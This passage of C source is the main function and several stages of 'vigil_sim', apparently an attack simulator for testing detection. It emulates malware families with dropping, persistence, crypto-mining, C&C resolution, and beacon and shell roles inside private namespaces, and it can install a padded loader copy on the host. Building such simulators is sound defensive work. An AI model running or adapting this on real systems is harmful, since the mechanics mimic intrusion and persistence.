		if (ufd < 0 || bind(ufd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			fprintf(stderr, "vigil_sim: stub resolver on 127.0.0.1:53: %s\n", strerror(errno));
			return -1;
		}
	}
	if (lfd < 0 && ufd < 0)
		return 0;
	pid_t c = fork();
	if (c < 0) {
		fprintf(stderr, "vigil_sim: fork: %s\n", strerror(errno));
		return -1;
	}
	if (c == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		prctl(PR_SET_NAME, "vigil_sim-srv");
		serve_role = p->agent_role;
		serve(lfd, ufd, p->pool_port);
		_exit(0);
	}
	if (lfd >= 0)
		close(lfd);
	if (ufd >= 0)
		close(ufd);
	struct line l;
	line_begin(&l, "servers", "listening");
	vg_buf_json_ki(&l.b, &l.first, "server_pid", c);
	if (lfd >= 0)
		vg_buf_json_ki(&l.b, &l.first, "pool_port", p->pool_port);
	if (ufd >= 0)
		vg_buf_json_kv(&l.b, &l.first, "resolver", "127.0.0.1:53");
	line_end(&l);
	return c;
}

/* ---- stage: cnc ---- */

static void stage_cnc(const struct plan *p)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *res = NULL;
	int rc = getaddrinfo(p->cnc_name, NULL, &hints, &res);
	if (rc != 0) {
		emit_error("cnc", "getaddrinfo %s: %s", p->cnc_name, gai_strerror(rc));
		return;
	}
	char a[INET_ADDRSTRLEN] = "";
	inet_ntop(AF_INET, &((struct sockaddr_in *)res->ai_addr)->sin_addr, a, sizeof(a));
	freeaddrinfo(res);
	struct line l;
	line_begin(&l, "cnc", "resolved");
	vg_buf_json_kv(&l.b, &l.first, "name", p->cnc_name);
	vg_buf_json_kv(&l.b, &l.first, "addr", a);
	line_end(&l);
}

/* ---- main ---- */

/*
 * --install-copy: writes this program, padded as the variant says, to the
 * variant's own place on the host (the loader as it would arrive), prints the
 * path and exits. Running it still sets up the private namespace first.
 */
static int install_copy(const struct plan *p, const char *root)
{
	char dir[PATH_MAX], path[PATH_MAX + 64];
	snprintf(dir, sizeof(dir), "%.3900s%s", strcmp(root, "/") == 0 ? "" : root, p->install_dir);
	int rc = mkdirs(dir, 0700);
	snprintf(path, sizeof(path), "%s/%s", dir, p->install_name);
	long long n = rc < 0 ? rc : copy_file("/proc/self/exe", path);
	if (n >= 0)
		n = pad_file(p, path, 3);
	if (n >= 0 && chmod(path, 0755) < 0)
		n = -errno;
	if (n < 0) {
		fprintf(stderr, "vigil_sim: --install-copy %s: %s\n", path, strerror((int)-n));
		return 1;
	}
	printf("%s\n", path);
	return 0;
}

static void usage(FILE *f)
{
	fputs("usage: vigil_sim [--seed N] [--stages LIST] [--benign] [--plan] [--keep-alive]\n"
	      "                 [--burn-ms N] [--max-seconds N]\n"
	      "  A harmless attack simulator (docs/simulator.md). Runs, as root, inside its own\n"
	      "  private mount and network namespace; JSON lines on stdout.\n"
	      "  --seed N         randomized names, folders, pool port and timing (default: random)\n"
	      "  --stages LIST    comma-separated: hollow,drop,persist,miner,cnc (default all, in that order)\n"
	      "  --benign         the same mechanics under benign names and places (false-positive tests)\n"
	      "  --plan           print the plan as one JSON line and exit (needs no root)\n"
	      "  --keep-alive     after the stages, hold the namespace until stdin closes or a signal\n"
	      "  --burn-ms N      miner CPU time per thread, 1..2000 (default 200..399 from the seed)\n"
	      "  --max-seconds N  hard cap on total runtime, 1..3600 (default 300)\n"
	      "  --variant N      seed N, and the seed also picks the family (Dofoil, CronStager,\n"
	      "                   RevShell), the stages, names, folders, arguments, C&C name and port,\n"
	      "                   persistence kinds and the padding of every dropped copy\n"
	      "  --install-copy   (with --variant) write the padded loader copy for that variant,\n"
	      "                   print its path and exit\n"
	      "  --install-root D (with --variant) the same, under folder D instead of /\n"
	      "  With VIGIL_SIM_VARIANT=N in the environment: --variant N, and the command line\n"
	      "  is not read (a variant runs with its own arguments, see the plan's variant.args).\n",
	      f);
}

static int parse_num(const char *opt, const char *v, unsigned long long lo, unsigned long long hi,
		     unsigned long long *out)
{
	char *end;
	errno = 0;
	if (!v || !*v || *v == '-') {
		fprintf(stderr, "vigil_sim: %s: missing or negative value\n", opt);
		return -1;
	}
	unsigned long long n = strtoull(v, &end, 10);
	if (errno || *end || n < lo || n > hi) {
		fprintf(stderr, "vigil_sim: %s: '%s' is not a number in %llu..%llu (at character %zu)\n", opt, v, lo,
			hi, (size_t)(end - v) + 1);
		return -1;
	}
	*out = n;
	return 0;
}

int main(int argc, char **argv)
{
	struct plan p;
	int only_plan = 0;
	unsigned long long n;
	char err[256], token[32] = "";

	const char *role = getenv("VIGIL_SIM_ROLE");
	if (role && strcmp(role, "miner") == 0)
		return miner_main();
	if (role && strcmp(role, "beacon") == 0)
		return beacon_main();
	if (role && strcmp(role, "shell") == 0)
		return shell_main();
	const char *install_base = NULL;
	/* VIGIL_SIM_VARIANT=N: the same as --variant N, and the arguments are decoration (the variant's own) */
	const char *env_variant = getenv("VIGIL_SIM_VARIANT");
	int decorated = env_variant && *env_variant;

	memset(&p, 0, sizeof(p));
	p.stages = ST_ALL;
	p.max_seconds = 300;
	if (getrandom(&p.seed, sizeof(p.seed), 0) != (ssize_t)sizeof(p.seed))
		p.seed = (uint64_t)time(NULL) ^ (uint64_t)getpid();
	p.seed &= 0xffffffffull; /* short enough to type back */
	if (decorated) {
		if (parse_num("VIGIL_SIM_VARIANT", env_variant, 0, UINT64_MAX, &n) < 0)
			return 2;
		p.seed = n;
		p.variant = 1;
	}
	for (int i = 1; i < argc && !decorated; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (strcmp(a, "--seed") == 0) {
			if (parse_num(a, v, 0, UINT64_MAX, &n) < 0)
				return 2;
			p.seed = n;
			i++;
		} else if (strcmp(a, "--stages") == 0) {
			if (!v || parse_stages(v, strlen(v), &p.stages, err, sizeof(err)) < 0) {
				fprintf(stderr, "vigil_sim: --stages: %s\n", v ? err : "missing value");
				return 2;
			}
			i++;
		} else if (strcmp(a, "--burn-ms") == 0) {
			if (parse_num(a, v, 1, BURN_MS_MAX, &n) < 0)
				return 2;
			p.burn_ms = (int)n;
			i++;
		} else if (strcmp(a, "--max-seconds") == 0) {
			if (parse_num(a, v, 1, MAX_SECONDS_MAX, &n) < 0)
				return 2;
			p.max_seconds = (int)n;
			i++;
		} else if (strcmp(a, "--variant") == 0) {
			if (parse_num(a, v, 0, UINT64_MAX, &n) < 0)
				return 2;
			p.seed = n;
			p.variant = 1;
			i++;
		} else if (strcmp(a, "--install-copy") == 0) {
			if (!install_base)
				install_base = "/";
		} else if (strcmp(a, "--install-root") == 0) {
			if (!v || v[0] != '/') {
				fprintf(stderr, "vigil_sim: --install-root needs an absolute folder\n");
				return 2;
			}
			install_base = v;
			i++;
		} else if (strcmp(a, "--benign") == 0) {
			p.benign = 1;
		} else if (strcmp(a, "--plan") == 0) {
			only_plan = 1;
		} else if (strcmp(a, "--keep-alive") == 0) {
			p.keep_alive = 1;
		} else if (strcmp(a, "--help") == 0 || strcmp(a, "-h") == 0) {
			usage(stdout);
			return 0;
		} else {
			fprintf(stderr, "vigil_sim: argument %d: unknown option '%s'\n", i, a);
			usage(stderr);
			return 2;
		}
	}
	make_plan(&p);
	if (install_base) {
		if (!p.variant) {
			fprintf(stderr, "vigil_sim: --install-copy needs --variant\n");
			return 2;
		}
		return install_copy(&p, install_base);
	}
	if (only_plan) {
		print_plan(&p);
		return 0;
	}
	if (geteuid() != 0) {
		fprintf(stderr, "vigil_sim: must run as root (it creates a private mount and network namespace); "
				"--plan works without\n");
		return 2;
	}

	struct sigaction sa_alarm = { .sa_handler = on_alarm }, sa_stop = { .sa_handler = on_stop };
	sigaction(SIGALRM, &sa_alarm, NULL);
	sigaction(SIGTERM, &sa_stop, NULL);
	sigaction(SIGINT, &sa_stop, NULL);
	sigaction(SIGHUP, &sa_stop, NULL);
	signal(SIGPIPE, SIG_IGN);
	alarm((unsigned)p.max_seconds);

	char host_mnt[64];
	ns_link(getpid(), "mnt", host_mnt, sizeof(host_mnt));
	print_plan(&p);
	if (setup_sandbox(&p, token, sizeof(token)) < 0)
		return 2;
	require_sandbox();

	struct line l;
	char mnt[64], net[64], root[64];
	ns_link(getpid(), "mnt", mnt, sizeof(mnt));
	ns_link(getpid(), "net", net, sizeof(net));
	snprintf(root, sizeof(root), "/proc/%d/root", (int)getpid());
	pid_t srv = start_servers(&p);
	if (srv < 0)
		return 2;
	kill_on_exit[2] = srv;
	line_begin(&l, "sim", "ready");
	vg_buf_json_kv(&l.b, &l.first, "mntns", mnt);
	vg_buf_json_kv(&l.b, &l.first, "netns", net);
	vg_buf_json_kv(&l.b, &l.first, "host_mntns", host_mnt);
	vg_buf_json_kv(&l.b, &l.first, "root", root);
	vg_buf_json_kv(&l.b, &l.first, "home", p.home);
	line_end(&l);

	int done_fd = -1;
	for (int i = 0; i < NSTAGES; i++) {
		if (!(p.stages & (1u << i)))
			continue;
		if (stop_flag)
			break;
		pause_ms(p.pause_ms[i]);
		require_sandbox();
		switch (1u << i) {
		case ST_HOLLOW:
			stage_hollow(&p);
			break;
		case ST_DROP:
			stage_drop(&p);
			break;
		case ST_PERSIST:
			stage_persist(&p);
			break;
		case ST_MINER:
			done_fd = stage_miner(&p, p.keep_alive);
			if (done_fd >= 0) {
				/* Wait until the miner has reported its work (it closes its end). */
				char c;
				for (;;) {
					ssize_t r = read(done_fd, &c, 1);
					if (r == 0 || (r < 0 && errno != EINTR))
						break;
				}
				close(done_fd);
				if (!p.keep_alive) {
					int st;
					waitpid(miner_pid, &st, 0);
					kill_on_exit[1] = 0;
					if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
						stage_failed = 1;
				}
			} else {
				stage_failed = 1;
			}
			break;
		case ST_CNC:
			stage_cnc(&p);
			break;
		}
	}

	if (p.keep_alive) {
		line_begin(&l, "sim", "holding");
		vg_buf_json_ki(&l.b, &l.first, "holder_pid", getpid());
		vg_buf_json_kv(&l.b, &l.first, "root", root);
		vg_buf_json_ki(&l.b, &l.first, "miner_pid", kill_on_exit[1]);
		line_end(&l);
		char buf[256];
		while (!stop_flag) {
			ssize_t r = read(0, buf, sizeof(buf));
			if (r == 0 || (r < 0 && errno != EINTR))
				break;
		}
	}
	kill_children();
	for (int i = 0; i < 3; i++)
		if (kill_on_exit[i] > 0)
			waitpid(kill_on_exit[i], NULL, 0);
	line_begin(&l, "sim", "done");
	vg_buf_json_ki(&l.b, &l.first, "status", stage_failed);
	line_end(&l);
	return stage_failed;
}

#endif /* VIGIL_SIM_PARSERS_ONLY */
